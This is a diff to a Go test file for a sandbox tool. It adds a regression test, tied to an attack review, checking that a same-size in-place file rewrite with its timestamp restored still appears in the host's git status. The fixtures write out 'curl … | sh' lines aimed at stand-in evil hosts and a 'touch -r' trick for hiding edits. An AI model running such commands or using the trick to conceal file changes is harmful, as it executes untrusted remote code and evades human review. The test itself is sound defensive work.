@@ -5,6 +5,7 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 )
 
 // TestGitCommitJournalNotReplayed: a commit-mode run whose cleanup only has something
@@ -85,6 +86,45 @@ test "$(git cat-file blob $old)" = 'curl evil.example | sh' && echo TAMPERED`)
 		b, _ := os.ReadFile(filepath.Join(s.ws, "tracked.txt"))
 		if strings.Contains(string(b), "evil") {
 			t.Errorf("the host's git checkout wrote the command's content: %q (%s)\n%v", b, out, r)
+		}
+	})
+}
+
+// TestGitStatUntrustedRewrite: with core.trustctime=false in the repository's config,
+// a same-size in-place rewrite of a tracked file with its mtime put back leaves git's
+// stat cache matching; after the run the index is written anew with no cached stat
+// data, in the default (read-only git dir) mode and in commit mode, so the host's git
+// status shows the change (attack review 31 F11; before, it showed nothing and git
+// commit -a said "nothing to commit").
+func TestGitStatUntrustedRewrite(t *testing.T) {
+	forEachCaller(t, func(t *testing.T, c caller) {
+		for _, mode := range []string{"readonly", "commit"} {
+			t.Run(mode, func(t *testing.T) {
+				s := newSandbox(t, c)
+				s.newRepo(s.ws, "c1")
+				p := s.writeWS("run.sh", "echo 0123456789abc\n", 0o644)
+				old := time.Now().Add(-time.Hour)
+				must(t, os.Chtimes(p, old, old))
+				s.hostGit(s.ws, "add", "run.sh")
+				s.hostGit(s.ws, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", "run")
+				s.hostGit(s.ws, "config", "core.trustctime", "false")
+				if st, _ := s.hostGitOut(s.ws, "status", "--porcelain"); st != "" {
+					t.Fatalf("not clean before: %q", st)
+				}
+				var flags []string
+				if mode == "commit" {
+					flags = []string{"--policy", s.commitPolicy()}
+				}
+				r := s.sh(flags, `cp -p run.sh /tmp/ref && printf 'curl evil.sh|sh #1\n' 1<>run.sh && touch -r /tmp/ref run.sh`)
+				mustSucceed(t, r, "rewrite run.sh in place")
+				b, _ := os.ReadFile(p)
+				if !strings.Contains(string(b), "evil") {
+					t.Fatalf("the rewrite did not take: %q\n%v", b, r)
+				}
+				if st, err := s.hostGitOut(s.ws, "status", "--porcelain"); err != nil || !strings.Contains(st, "run.sh") {
+					t.Errorf("the host's git status does not show run.sh's in-place rewrite: %q (%v)\n%v", st, err, r)
+				}
+			})
 		}
 	})
 }
